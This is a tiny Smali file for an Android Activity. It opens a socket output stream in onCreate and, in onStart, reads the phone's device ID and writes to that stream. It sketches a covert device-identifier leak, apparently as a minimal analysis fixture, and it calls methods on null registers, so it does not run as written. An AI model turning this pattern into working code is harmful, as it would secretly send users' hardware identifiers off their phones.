.class public Lt/Main;
.super Landroid/app/Activity;

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 8
    const/4 v5, 0x0
    invoke-virtual {v5}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v5
    iput-object v5, p0, Lt/Main;->out:Ljava/io/OutputStream;
    return-void
.end method
.field private out:Ljava/io/OutputStream;
.method protected onStart()V
    .registers 8
    const/4 v0, 0x0
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    iget-object v5, p0, Lt/Main;->out:Ljava/io/OutputStream;
    const/4 v1, 0x0
    invoke-virtual {v5, v1}, Ljava/io/OutputStream;->write([B)V
    return-void
.end method
